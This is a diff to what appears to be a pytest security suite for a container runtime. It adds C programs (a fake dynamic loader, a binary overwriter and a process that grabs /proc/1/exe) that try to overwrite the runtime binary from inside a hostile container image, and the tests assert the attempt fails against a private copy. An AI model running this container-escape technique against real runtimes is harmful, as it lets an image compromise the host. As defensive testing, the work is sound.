@@ -9,8 +9,8 @@ script whose interpreter is), the kernel executes the runtime binary again,
 and -- the binary being dynamic -- runs the loader named by its PT_INTERP,
 resolved in the container's rootfs, which the image controls.  Our "loader"
 (a raw-syscall static program) opens /proc/self/exe read-only, then execs a
-second program that re-opens that fd for writing once the runtime binary no
-longer runs in the process (no ETXTBSY).
+second program that keeps re-opening that fd for writing until no process
+executes the binary any more (ETXTBSY ends when the detached runtime exits).
 
 The runtime under test is a private copy of the binary, so a successful
 attack damages only the copy; the tests assert the copy and the real binary
@@ -26,6 +26,7 @@ import pytest
 import celltest
 import hostwatch
 from payload import compile_into, parse_report
+from secrun import read, wait_out
 
 LOADER = "/lib64/ld-linux-x86-64.so.2"   # the PT_INTERP of a Debian x86-64 binary
 MARK = "CELLTEST-EXE-OVERWRITE"
@@ -79,6 +80,19 @@ void loader_main(long *sp)
 	long argc = sp[0];
 	char **envp = (char **)(sp + 1 + argc + 1);
 	char buf[32], link[512];
+	long out = sc(SYS_open, (long)"/out/report", O_WRONLY | O_CREAT | O_APPEND, 0644);
+	if (out >= 0)
+		sc(SYS_dup2, out, 1, 0), sc(SYS_close, out, 0, 0);
+	/* "hold": stay the runtime binary (for another process to grab it as
+	 * /proc/1/exe) until /out/go exists, then become sleep */
+	if (argc > 1 && ((char **)(sp + 1))[1][0] == 'h') {
+		struct { long s, ns; } tick = { 0, 50000000 };
+		for (int i = 0; i < 300 && sc(SYS_access, (long)"/out/go", F_OK, 0) < 0; i++)
+			sc(SYS_nanosleep, (long)&tick, 0, 0);
+		char *argv[] = { "sleep", "30", 0 };
+		sc(SYS_execve, (long)"/bin/sleep", (long)argv, (long)envp);
+		sc(SYS_exit_group, 98, 0, 0);
+	}
 	long fd = sc(SYS_open, (long)"/proc/self/exe", O_RDONLY, 0);
 
 	say_num("exe_open", fd);
@@ -113,12 +127,46 @@ int main(int argc, char **argv)
 	if (fstat(fd, &st) == 0)
 		report("exe_ino", "%lu:%lu", (unsigned long)st.st_dev, (unsigned long)st.st_ino);
 	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
-	int w = open(path, O_WRONLY | O_APPEND);
+	/* ETXTBSY while some process still executes it: wait for the runtime to exit */
+	int w = -1;
+	for (int i = 0; i < 500; i++) {
+		w = open(path, O_WRONLY | O_APPEND);
+		if (w >= 0 || errno != ETXTBSY)
+			break;
+		usleep(20000);
+	}
 	if (outcome("exe_reopen_write", w) == 0)
 		outcome("exe_append", write(w, "MARK", 4));
+	report("done", "");
 	return 0;
 }
 """.replace('"MARK", 4', f'"{MARK}", {len(MARK)}')
+
+
+GRABBER = r"""
+/* Another process of the container takes pid 1's executable -- the
+ * runtime binary, if pid 1 is an instance of it -- lets pid 1 move on,
+ * and hands the fd to exe-overwrite. */
+int main(int argc, char **argv)
+{
+	char link[512] = "", arg[16];
+	freopen("/out/report", "a", stdout);
+	int fd = open("/proc/1/exe", O_RDONLY);
+	outcome("exe_open", fd);
+	ssize_t n = readlink("/proc/1/exe", link, sizeof(link) - 1);
+	link[n > 0 ? n : 0] = '\0';
+	report("exe_link", "%s", link);
+	close(open("/out/go", O_WRONLY | O_CREAT, 0644));
+	if (fd < 0) {
+		report("done", "");
+		return 0;
+	}
+	snprintf(arg, sizeof(arg), "%d", fd);
+	execl("/usr/local/bin/exe-overwrite", "exe-overwrite", arg, (char *)NULL);
+	report("exec_overwrite", "failed");
+	return 1;
+}
+"""
 
 
 def errname(value):
@@ -128,7 +176,7 @@ def errname(value):
 
 
 @pytest.fixture
-def runtime_copy(session, runtime, tmp_path_factory):
+def runtime_copy(session, runtime):
     """A Runtime driving a private copy of the binary (the attack's target)."""
     d = os.path.join(session.base, f"exe-{session.new_id()}")
     os.makedirs(d)
@@ -146,6 +194,7 @@ def hostile_rootfs(bundle):
     """Private rootfs with the fake loader, the overwriter and /bin/evil links."""
     rootfs = bundle.private_rootfs()
     compile_into(rootfs, "exe-overwrite", OVERWRITE)
+    compile_into(rootfs, "exe-grabber", GRABBER)
     built = compile_into(rootfs, "fake-ld", FAKE_LOADER,
                          flags=["-nostdlib", "-fno-stack-protector", "-fno-builtin"])
     dest = os.path.join(rootfs, LOADER.lstrip("/"))
@@ -164,6 +213,8 @@ def assert_not_overwritten(session, rt, before, report, r):
     assert hostwatch.sha256(session.binary) == before[session.binary]
     with open(exe, "rb") as f:
         assert MARK.encode() not in f.read()
+    if "exe_write_running" in report:   # the direct open, while it runs
+        assert errname(report["exe_write_running"]) != "ok", r
     if report.get("exe_reopen_write") == "ok":
         st = os.stat(exe)
         assert report.get("exe_ino") != f"{st.st_dev}:{st.st_ino}", \
@@ -174,22 +225,51 @@ def hashes(session, rt):
     return {p: hostwatch.sha256(p) for p in (rt.binary, session.binary)}
 
 
+def attack_report(bundle, r):
+    """The attack's report (out/report), once it has tried everything."""
+    try:
+        return parse_report(wait_out(bundle, "report", want="done", timeout=15))
+    except AssertionError:
+        path = os.path.join(bundle.out, "report")
+        got = read(path) if os.path.exists(path) else "(no report)"
+        raise AssertionError(f"the attack did not finish: {got}\n{r}") from None
+
+
 def test_entrypoint_is_proc_self_exe(session, runtime_copy, bundle):
-    """process.args[0] is a symlink to /proc/self/exe."""
+    """process.args[0] is a symlink to /proc/self/exe (detached: the runtime
+    exits while the container lives on)."""
     hostile_rootfs(bundle)
     before = hashes(session, runtime_copy)
     bundle.args("/bin/evil")
-    r = runtime_copy.run(bundle, timeout=20)
-    report = parse_report(r.out)
+    r = runtime_copy.run(bundle, detach=True, timeout=20)
+    assert r.rc == 0 or r.err_lines, r   # refusing to start it would do too
+    report = attack_report(bundle, r) if r.rc == 0 else {}
     assert_not_overwritten(session, runtime_copy, before, report, r)
 
 
 def test_exec_script_interpreter_is_proc_self_exe(session, runtime_copy, bundle):
-    """`exec` of a script whose #! line names /proc/self/exe."""
+    """`exec -d` of a script whose #! line names /proc/self/exe."""
     hostile_rootfs(bundle)
     before = hashes(session, runtime_copy)
     bundle.args("sleep", "30")
     runtime_copy.run(bundle, detach=True, timeout=20).ok()
-    r = runtime_copy.exec(bundle.id, "/bin/evil-script", timeout=20)
-    report = parse_report(r.out)
+    r = runtime_copy.exec(bundle.id, "/bin/evil-script", opts=["-d"], timeout=20)
+    assert r.rc == 0 or r.err_lines, r
+    report = attack_report(bundle, r) if r.rc == 0 else {}
+    assert_not_overwritten(session, runtime_copy, before, report, r)
+
+
+def test_other_process_opens_proc_1_exe(session, runtime_copy, bundle):
+    """pid 1 is the runtime binary (entrypoint -> /proc/self/exe, held by the
+    image's loader); an `exec`'d process opens /proc/1/exe, lets pid 1 exec
+    away, and re-opens the fd for writing once the runtime has exited."""
+    hostile_rootfs(bundle)
+    before = hashes(session, runtime_copy)
+    bundle.args("/bin/evil", "hold")
+    r = runtime_copy.run(bundle, detach=True, timeout=20)
+    assert r.rc == 0 or r.err_lines, r
+    if r.rc == 0:
+        r = runtime_copy.exec(bundle.id, "/usr/local/bin/exe-grabber", opts=["-d"], timeout=20)
+        assert r.rc == 0, r
+    report = attack_report(bundle, r) if r.rc == 0 else {}
     assert_not_overwritten(session, runtime_copy, before, report, r)
